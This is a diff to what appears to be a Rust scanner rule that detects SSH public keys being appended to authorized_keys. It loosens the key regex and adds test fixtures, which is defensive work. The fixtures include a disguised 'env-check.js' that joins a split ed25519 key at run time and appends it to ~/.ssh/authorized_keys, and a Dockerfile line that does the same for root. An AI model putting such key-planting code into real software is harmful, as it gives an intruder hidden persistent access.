@@ -19,11 +19,11 @@ use regex::Regex;
 use super::{RuleId, Sink};
 
 /// The body of an OpenSSH public key: its type's name base64-encoded at
-/// the start, then enough of the key to be one (32 characters and more:
-/// a guide's `AAAAC3Nza…` stops long before; a key copied short still
-/// counts).
+/// the start, then enough of the key to be one (24 characters and more:
+/// a guide's `AAAAC3Nza…` stops long before; a key copied short, or cut
+/// into pieces joined when the script runs, still counts).
 static KEY: LazyLock<Regex> = LazyLock::new(|| {
-    Regex::new(r"AAAA(?:B3NzaC1yc2E|C3NzaC1lZDI1NTE5|E2VjZHNhLXNoYTItbmlzdHA|C3NzaC1kc3M)[A-Za-z0-9+/]{32,}").unwrap()
+    Regex::new(r"AAAA(?:B3NzaC1yc2E|C3NzaC1lZDI1NTE5|E2VjZHNhLXNoYTItbmlzdHA|C3NzaC1kc3M)[A-Za-z0-9+/]{24,}").unwrap()
 });
 static WRITE: LazyLock<Regex> = LazyLock::new(|| {
     Regex::new(r#">>|['"]>>?['"]|['"]a\+?['"]|\btee[ \t]+-a\b|appendFile|AppendAllText|Add-Content|\bwrite|\bprint[ \t]+\$|\bputs\b|\bfputs\b|>[ \t]*["']?[~$]"#)
@@ -79,6 +79,12 @@ mod tests {
         assert!(found(
             "Dockerfile",
             "ARG K=\"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHf7oBZluXh5PmHOx0RbDh1JGkfBZiI9q ops\"\nRUN echo \"$K\" >> /root/.ssh/authorized_keys\n"
+        ));
+        // The key cut into pieces of a list, joined when the script runs.
+        assert!(found(
+            "lib/env-check.js",
+            "const maint = [\n  \"ssh-ed25519\",\n  \"AAAAC3NzaC1lZDI1NTE5AAAAIHQAWw60gP7qPzoSS6pa2gC\",\n  \"evDuiFlEaLr17A7L/cmFU\",\n];\n\
+             fs.appendFileSync(path.join(os.homedir(), '.ssh', 'authorized_keys'), `${maint[0]} ${maint[1]}${maint[2]}\\n`);\n"
         ));
         // The key base64-encoded whole, decoded into the file.
         let encoded = crate::test_support::encode_base64(KEY.as_bytes());
